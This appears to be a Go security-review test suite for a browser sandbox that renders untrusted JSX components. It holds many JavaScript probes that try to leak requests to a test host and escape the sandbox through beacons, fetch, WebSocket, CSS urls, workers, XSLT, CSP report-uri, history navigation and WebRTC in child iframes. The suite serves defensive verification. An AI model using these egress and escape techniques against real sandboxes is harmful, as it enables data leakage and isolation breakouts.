//go:build attackreview

package browser

import (
	"context"
	"encoding/json"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"github.com/codeexec/codeexec-operator/internal/jsxbuild"
)

// Round-5 review. These held on Chromium as reviewed (they pass); they are
// kept as the record of what was tried. review5Routes are routes outside
// dnsRoutes, rendered with the manifest's browser policies installed, where
// nothing at all may reach the wire (R5_NOPOL=1 renders them without the
// policies: then only "navigation api" and "download link" resolve a name
// and open an empty connection, the known navigation class).
var review5Routes = []struct{ name, code string }{
	{"compression dictionary link", "const l = document.createElement('link'); l.rel = 'compression-dictionary'; l.href = 'http://dict.' + H + '/d'; document.head.appendChild(l);"},
	{"attributionsrc", "document.body.insertAdjacentHTML('beforeend', '<img attributionsrc=\"http://attr.' + H + '/a\" src=\"data:,\"><a id=ar href=\"#x\" attributionsrc=\"http://attra.' + H + '/a\">x</a>'); document.getElementById('ar').click(); try { window.open('#', '_self', 'attributionsrc=http://attrw.' + H + '/w'); } catch (e) {}"},
	{"css svg resources", "const s = document.createElement('style'); s.textContent = 'p { filter: url(http://filter.' + H + '/f.svg#f); clip-path: url(http://clip.' + H + '/c.svg#c); mask: url(http://mask.' + H + '/m.svg#m); cursor: url(http://cur.' + H + '/c.png), auto; list-style-image: url(http://li.' + H + '/l.png); border-image: url(http://bi.' + H + '/b.png) 30; shape-outside: url(http://so.' + H + '/s.png); }'; document.head.appendChild(s); document.body.insertAdjacentHTML('beforeend', '<ul><li>x</li></ul><svg><use href=\"http://use.' + H + '/u.svg#a\"/><filter id=q><feImage href=\"http://fei.' + H + '/i.png\"/></filter></svg>');"},
	{"media elements", "document.body.insertAdjacentHTML('beforeend', '<video poster=\"http://poster.' + H + '/p.png\" src=\"http://video.' + H + '/v.mp4\"><track default src=\"http://track.' + H + '/t.vtt\"></video><audio src=\"http://audio.' + H + '/a.mp3\"></audio><input type=image src=\"http://input.' + H + '/i.png\">'); try { document.querySelector('video').remote.watchAvailability(() => {}).catch(() => {}); } catch (e) {}"},
	{"object embed", "document.body.insertAdjacentHTML('beforeend', '<object data=\"http://obj.' + H + '/o\"></object><embed src=\"http://embed.' + H + '/e\">');"},
	{"worklets import workers", "try { CSS.paintWorklet.addModule('http://paint.' + H + '/m.js').catch(() => {}); } catch (e) {} try { new AudioContext().audioWorklet.addModule('http://audio-wl.' + H + '/m.js').catch(() => {}); } catch (e) {} try { new SharedWorker('http://shw.' + H + '/w.js'); } catch (e) {} try { new Worker('http://wrk.' + H + '/w.js'); } catch (e) {}"},
	{"connect apis", "try { navigator.sendBeacon('http://beacon.' + H + '/b', 'x'); } catch (e) {} try { new WebSocket('ws://wsk.' + H + '/'); } catch (e) {} try { new EventSource('http://es.' + H + '/'); } catch (e) {} fetch('http://fetch.' + H + '/').catch(() => {}); try { fetchLater('http://fl.' + H + '/'); } catch (e) {} try { new WebSocketStream('ws://wss2.' + H + '/'); } catch (e) {}"},
	{"fonts", "try { const f = new FontFace('cx', 'url(http://font.' + H + '/f.woff)'); document.fonts.add(f); f.load().catch(() => {}); } catch (e) {}"},
	{"payment fedcm webauthn notification", "try { new PaymentRequest([{ supportedMethods: 'https://pay.' + H + '/p' }], { total: { label: 'x', amount: { currency: 'USD', value: '1' } } }).canMakePayment().catch(() => {}); } catch (e) {} try { navigator.credentials.get({ identity: { providers: [{ configURL: 'https://fedcm.' + H + '/c.json', clientId: 'x' }] } }).catch(() => {}); } catch (e) {} try { navigator.credentials.create({ publicKey: { rp: { id: 'webauthn.' + H, name: 'x' }, user: { id: new Uint8Array(1), name: 'a', displayName: 'a' }, challenge: new Uint8Array(16), pubKeyCredParams: [{ type: 'public-key', alg: -7 }] } }).catch(() => {}); } catch (e) {} try { new Notification('x', { icon: 'http://icon.' + H + '/i.png' }); } catch (e) {}"},
	{"xslt document", "try { const p = new XSLTProcessor(); p.importStylesheet(new DOMParser().parseFromString('<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\"><xsl:import href=\"http://xsltimp.' + H + '/i.xsl\"/><xsl:template match=\"/\"><r><xsl:copy-of select=\"document(\\'http://xsltdoc.' + H + '/d.xml\\')\"/></r></xsl:template></xsl:stylesheet>', 'application/xml')); p.transformToFragment(new DOMParser().parseFromString('<a/>', 'application/xml'), document); } catch (e) {}"},
	{"manifest icon links", "for (const rel of ['manifest', 'icon', 'apple-touch-icon', 'search', 'stylesheet alternate', 'expect', 'next']) { const l = document.createElement('link'); l.rel = rel; l.href = 'http://' + rel.replace(/ /g, '') + '.' + H + '/x'; document.head.appendChild(l); }"},
	{"navigation api and history", "try { navigation.navigate('http://navapi.' + H + '/'); } catch (e) {} try { history.pushState(null, '', 'http://push.' + H + '/'); } catch (e) {}"},
	{"srcdoc child with meta csp report-uri", "const f = document.createElement('iframe'); f.srcdoc = '<meta http-equiv=\"Content-Security-Policy\" content=\"img-src \\'none\\'; report-uri http://report.' + H + '/r; report-to x\"><img src=\"http://imgrep.' + H + '/i.png\">'; document.body.appendChild(f);"},
	{"download link", "document.body.insertAdjacentHTML('beforeend', '<a id=dl href=\"http://dl.' + H + '/x.bin\" download=\"x.bin\">d</a><a id=dl2 href=\"http://dl2.' + H + '/y\" download target=\"_blank\">d</a>'); document.getElementById('dl').click(); document.getElementById('dl2').click();"},
	{"media session artwork", "try { navigator.mediaSession.metadata = new MediaMetadata({ title: 'x', artwork: [{ src: 'http://art.' + H + '/a.png', sizes: '96x96', type: 'image/png' }] }); const ctx = new AudioContext(); const o = ctx.createOscillator(); const d = ctx.createMediaStreamDestination(); o.connect(d); o.start(); const a = document.createElement('audio'); a.srcObject = d.stream; document.body.appendChild(a); a.play().catch(() => {}); } catch (e) {}"},
}

func TestAttackReview5BrowserRoutes(t *testing.T) {
	var pol map[string]any
	if os.Getenv("R5_NOPOL") == "" {
		pol = jsxbuild.DefaultHostRequirements().BrowserPolicies
	}
	h := reviewHarness(t, pol)
	for _, r := range review5Routes {
		t.Run(r.name, func(t *testing.T) {
			label := strings.NewReplacer(" ", "-", ".", "").Replace(r.name)
			src := strings.ReplaceAll(strings.ReplaceAll(dnsComponent, "CODE", r.code), "NAME", label)
			tb := h.render(t, src)
			tb.waitMessage("rendered")
			if err := chromedp.Do(tb.ctx, chromedp.Sleep(3*time.Second)); err != nil {
				t.Fatal(err)
			}
			tb.check(false)
		})
	}
}

// TestAttackReview5HistoryTraversal: the host tab has an entry before the
// host page; the sandboxed component calls history.back() (and variants).
func TestAttackReview5HistoryTraversal(t *testing.T) {
	h := reviewHarness(t, nil)
	for _, c := range []struct{ name, code string }{
		{"history.back", "history.back();"},
		{"history.go(-1)", "history.go(-1);"},
		{"navigation.back", "try { navigation.back(); } catch (e) {}"},
		{"pushState then go(-2)", "try { history.pushState(null, ''); } catch (e) {} history.go(-2);"},
	} {
		t.Run(c.name, func(t *testing.T) {
			ctx, cancel := chromedp.NewContext(h.browser)
			t.Cleanup(cancel)
			if err := chromedp.Do(ctx, chromedp.Navigate(h.host.url+"/host.css")); err != nil {
				t.Fatal(err)
			}
			src := "import { useEffect } from 'react';\nexport default function H() { useEffect(() => { setTimeout(() => { " + c.code + " }, 300); }, []); return <p>h</p>; }\n"
			out, err := jsxbuild.Compile(context.Background(), []byte(src), jsxbuild.Options{})
			if err != nil {
				t.Fatal(err)
			}
			path := h.host.pageFor(hostRequirementsOf(out.HTML))
			if err := chromedp.Do(ctx, chromedp.Navigate(h.host.url+path)); err != nil {
				t.Fatal(err)
			}
			doc, _ := json.Marshal(out.HTML)
			if err := evalJSON(ctx, `(CodeexecHost.mount(document.getElementById('stage'), `+string(doc)+`, {}), true)`, nil); err != nil {
				t.Fatal(err)
			}
			if err := chromedp.Do(ctx, chromedp.Sleep(2500*time.Millisecond)); err != nil {
				t.Fatal(err)
			}
			var href string
			if err := evalJSON(ctx, `location.href`, &href); err != nil {
				t.Fatal(err)
			}
			if href != h.host.url+path {
				t.Errorf("the sandboxed component navigated the host tab from %s to %s with %q", h.host.url+path, href, c.code)
			}
		})
	}
}

// TestAttackReview5WebRTCChildRealms: child realms whose script is not one
// of the document's: a plain inline script (does the srcdoc child inherit
// the meta-delivered CSPs?), one with a child meta CSP trying to relax
// them, a child iframe asking for allow-same-origin, a grandchild, and a
// data: object.
func TestAttackReview5WebRTCChildRealms(t *testing.T) {
	h := reviewHarness(t, nil)
	inline := "const inl = (extra, attrs) => { const f = document.createElement('iframe'); if (attrs) f.setAttribute('sandbox', attrs); f.srcdoc = extra + '<script>' + rtcLibText + 'rtcAnswer(RTCPeerConnection, \"child\"); rtcServers(RTCPeerConnection, \"childs\");</' + 'script>'; document.body.appendChild(f); return 'made'; };"
	for _, r := range []struct{ name, code string }{
		{"plain inline script in srcdoc child", inline + "return inl('', '');"},
		{"child meta csp relaxing", inline + "return inl('<meta http-equiv=\"Content-Security-Policy\" content=\"script-src * \\'unsafe-inline\\' \\'unsafe-eval\\'\">', '');"},
		{"child asks allow-same-origin", inline + "return inl('', 'allow-scripts allow-same-origin allow-popups allow-top-navigation');"},
		{"grandchild inline", "const g = '<script>' + rtcLibText + 'rtcAnswer(RTCPeerConnection, \"gc\");</' + 'script>'; const f = document.createElement('iframe'); f.srcdoc = '<iframe srcdoc=\"' + g.replace(/&/g, '&amp;').replace(/\"/g, '&quot;') + '\"></iframe>'; document.body.appendChild(f); return 'made';"},
		{"child navigated to about:blank by the parent", "const f = document.createElement('iframe'); f.srcdoc = '<p>x</p>'; f.name = 'cxab'; document.body.appendChild(f); await new Promise((r) => { f.onload = r; }); f.onload = null; f.src = 'about:blank'; await new Promise((r) => setTimeout(r, 300)); try { return await rtcAnswer(f.contentWindow.RTCPeerConnection, 'ab1'); } catch (e) {} try { window.open('about:blank', 'cxab'); } catch (e) {} await new Promise((r) => setTimeout(r, 300)); try { return await rtcAnswer(f.contentWindow.RTCPeerConnection, 'ab2'); } catch (e) {} f.contentWindow.location = 'about:blank#z'; await new Promise((r) => setTimeout(r, 300)); return rtcAnswer(f.contentWindow.RTCPeerConnection, 'ab3');"},
		{"data object and embed", "const d = 'data:text/html,' + encodeURIComponent('<script>' + rtcLibText + 'rtcAnswer(RTCPeerConnection, \"obj\");</' + 'script>'); document.body.insertAdjacentHTML('beforeend', '<object data=\"' + d + '\" type=\"text/html\"></object><embed src=\"' + d + '\" type=\"text/html\">'); return 'made';"},
	} {
		for _, page := range []string{"/host.html", "/bare.html"} {
			t.Run(page+"/"+r.name, func(t *testing.T) {
				code := "const rtcLibText = " + strconvQuote(rtcLib) + ";\n" + r.code
				out, err := jsxbuild.Compile(context.Background(), []byte(attackComponent(code)), jsxbuild.Options{})
				if err != nil {
					t.Fatal(err)
				}
				tb := h.renderOn(t, page, out.HTML)
				text := tb.waitFrameText("the attempt's result", func(s string) bool { return strings.Contains(s, "RESULT") || strings.Contains(s, "ERR") })
				if err := chromedp.Do(tb.ctx, chromedp.Sleep(4*time.Second)); err != nil {
					t.Fatal(err)
				}
				t.Logf("frame: %q", text)
				tb.check(false)
			})
		}
	}
}

func strconvQuote(s string) string { b, _ := json.Marshal(s); return string(b) }
